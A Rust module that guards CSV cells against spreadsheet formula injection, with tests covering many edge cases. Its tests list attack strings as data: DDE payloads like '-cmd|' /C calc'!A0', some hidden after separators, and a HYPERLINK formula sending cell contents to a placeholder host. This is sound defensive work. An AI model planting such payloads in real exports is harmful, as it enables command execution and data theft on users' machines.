//! Texts that a spreadsheet takes for formulas when it opens a CSV file.
//!
//! What begins with `=` or `@` is one. What begins with `+` or `-` may be a list item or a formula, so it is read as one:
//! prose gives itself away by characters that no formula has, by words beside numbers or by quotation marks without a
//! partner. A sign, room and names only (`- 头痛`) is a list item: it computes nothing and reaches nothing.

/// The longest formula that any spreadsheet takes, in characters.
const LONGEST: usize = 8192;

/// A text with a `'` wherever a spreadsheet would see a formula begin: at its beginning and, for a program that separates
/// cells by `;` or tabs and so sees no quotation marks around this one, after each of these and each line's end. `None`
/// if there is no such place.
#[must_use]
pub fn guarded(text: &str) -> Option<String> {
    let ends = [';', '\t', '\n', '\r'];
    let mut out = String::new();
    let mut kept = 0;
    let mut start = 0;
    for part in text.split_inclusive(ends) {
        let at = start + part.len() - part.trim_start_matches(is_nothing).len();
        start += part.len();
        let rest = &text[at..];
        if at < start && rest.starts_with(is_sign) {
            // The cell may end at any of them, depending on who reads the file.
            let cells = ends.iter().map(|end| rest.split(*end).next().unwrap_or(rest)).chain([rest]);
            if cells.into_iter().any(is_formula) {
                out.push_str(&text[kept..at]);
                out.push('\'');
                kept = at;
            }
        }
    }
    (kept > 0 || !out.is_empty()).then(|| out + &text[kept..])
}

/// True for the signs with which formulas begin. East Asian versions of Excel read the full-width ones as the plain ones.
pub fn is_sign(c: char) -> bool {
    matches!(plain(c), '=' | '+' | '-' | '@')
}

/// What programs may leave out at the beginning of a cell.
fn is_nothing(c: char) -> bool {
    c.is_whitespace() || c.is_control() || matches!(c, '\u{feff}' | '\u{200b}'..='\u{200f}' | '\u{2060}')
}

/// The ASCII character that a full-width one stands for.
fn plain(c: char) -> char {
    match c {
        '\u{ff01}'..='\u{ff5e}' => char::from_u32(c as u32 - 0xfee0).unwrap_or(c),
        c => c,
    }
}

/// True if a cell that begins with a sign is a formula.
fn is_formula(cell: &str) -> bool {
    let chars: Vec<char> = cell.chars().take(LONGEST + 1).map(plain).collect();
    let signs = chars.iter().take_while(|c| is_nothing(**c) || matches!(c, '+' | '-')).count();
    match chars[0] {
        // A line under a heading computes nothing.
        first @ ('=' | '@') => chars.iter().any(|c| *c != first && !is_nothing(*c)),
        _ if chars.len() > LONGEST || signs == chars.len() => false,
        _ => {
            let listed = chars[..signs].iter().any(|c| is_nothing(*c));
            read(&chars[signs..]).is_some_and(|what| what.reaches || !(listed || what.number))
        }
    }
}

/// What an expression does.
#[derive(Debug, Default)]
struct Expression {
    /// It calls a function or something outside the cell's sheet.
    reaches: bool,
    /// It is one number.
    number: bool,
}

#[derive(Debug, Clone, Copy, PartialEq)]
enum Token {
    /// What needs something before it.
    Infix,
    /// Any other operator, an opening bracket, the beginning.
    Open,
    Name,
    Number,
    /// A quotation or a closing bracket.
    Closed,
}

/// Reads an expression, more generously than any spreadsheet; `None` if it cannot be one.
fn read(chars: &[char]) -> Option<Expression> {
    let mut what = Expression::default();
    let (mut before, mut tokens, mut at) = (Token::Open, 0, 0);
    let mut brackets = Vec::new();
    while let Some(&c) = chars.get(at) {
        let run = |is: fn(char) -> bool| chars[at..].iter().take_while(|c| is(**c)).count();
        if is_nothing(c) {
            at += 1;
            continue;
        }
        let (token, length) = match c {
            '"' | '\'' => (Token::Closed, 2 + chars[at + 1..].iter().position(|other| *other == c)?),
            '(' | '[' | '{' => {
                // Functions have Latin names wherever Han, Kana or Hangul is written.
                what.reaches |= c == '('
                    && before == Token::Name
                    && chars[..at].iter().rfind(|c| !is_nothing(**c)).is_some_and(|c| *c < '\u{1100}');
                brackets.push(c);
                (Token::Open, 1)
            }
            ')' | ']' | '}' => {
                brackets.pop().filter(|open| matches!((open, c), ('(', ')') | ('[', ']') | ('{', '}')))?;
                (Token::Closed, 1)
            }
            '!' | '|' => {
                what.reaches = true;
                (Token::Infix, 1)
            }
            '*' | '/' | '^' | '&' | ':' => (Token::Infix, 1),
            // It separates what is in brackets, and nothing else.
            ';' if brackets.is_empty() => return None,
            '+' | '-' | '=' | '<' | '>' | ',' | ';' | '@' | '~' => (Token::Open, 1),
            '%' | '#' => (Token::Closed, 1),
            c if c.is_ascii_digit() => (Token::Number, run(is_word)),
            c if is_word(c) => (Token::Name, run(is_word)),
            _ => return None,
        };
        let operand = matches!(token, Token::Name | Token::Number) || c == '"' || c == '\'';
        match before {
            // Two names beside each other are where two ranges meet; nothing else may stand so.
            Token::Number | Token::Closed if operand => return None,
            Token::Name if operand && token != Token::Name => return None,
            Token::Infix | Token::Open if token == Token::Infix => return None,
            _ => {}
        }
        (before, tokens, at) = (token, tokens + 1, at + length);
    }
    what.number = tokens == 1 && before == Token::Number;
    (brackets.is_empty() && tokens > 0).then_some(what)
}

/// What names, numbers and references are made of.
fn is_word(c: char) -> bool {
    c.is_alphanumeric() || matches!(c, '_' | '.' | '\\' | '?' | '$')
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_are_guarded() {
        for (said, becomes) in [
            ("=1+1", "'=1+1"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("＝1", "'＝1"),
            (" \u{feff}=1", " \u{feff}'=1"),
            ("\t=1", "\t'=1"),
            ("+SUM(1)", "'+SUM(1)"),
            ("-1+1", "'-1+1"),
            ("-A1", "'-A1"),
            ("-cmd|' /C calc'!A0", "'-cmd|' /C calc'!A0"),
            ("- cmd|'/C 一。'!A0", "'- cmd|'/C 一。'!A0"),
            ("+ - 2 + 'C:\\[a;b]c'!A1", "'+ - 2 + 'C:\\[a;b]c'!A1"),
            (
                "- HYPERLINK (\"http://x.invalid/\"&A1,\"看 这里。\")",
                "'- HYPERLINK (\"http://x.invalid/\"&A1,\"看 这里。\")",
            ),
            ("－ＳＵＭ（Ａ１，Ａ２）", "'－ＳＵＭ（Ａ１，Ａ２）"),
            ("-SUM({1;2})%", "'-SUM({1;2})%"),
            ("ok;=cmd|'/C calc'!A0", "ok;'=cmd|'/C calc'!A0"),
            ("一\n=1\r\n +A1*2;x\t@x", "一\n'=1\r\n '+A1*2;x\t'@x"),
            ("- 一；\n- 二;-cmd|'x'!A0\n三。", "- 一；\n- 二;'-cmd|'x'!A0\n三。"),
        ] {
            assert_eq!(guarded(said).as_deref(), Some(becomes), "{said}");
        }
    }

    #[test]
    fn answers_are_left_as_they_are() {
        for said in [
            "",
            "一、二",
            "'=1",
            "- 头痛",
            "- 头痛（三天），伴恶心\n- 胸闷",
            "- 建议完善 CT（头颅）检查。",
            "- Aspirin (100 mg) daily",
            "- It's fine.",
            "- **重点**：血压 160/100 mmHg",
            "+ 项一\n+ 项二",
            "---\n# 标题",
            "标题\n====",
            "血压=140; 心率=80",
            "好的 ;-)",
            "-5",
            "+3.5",
            "-38.5℃",
            "+86 138 0000 0000",
            "| a | b |\n|---|---|",
            "- 详见 <https://example.invalid/?a=1>",
        ] {
            assert_eq!(guarded(said), None, "{said}");
        }
        assert_eq!(guarded(&format!("- {}", "头痛 ".repeat(LONGEST))), None);
    }
}
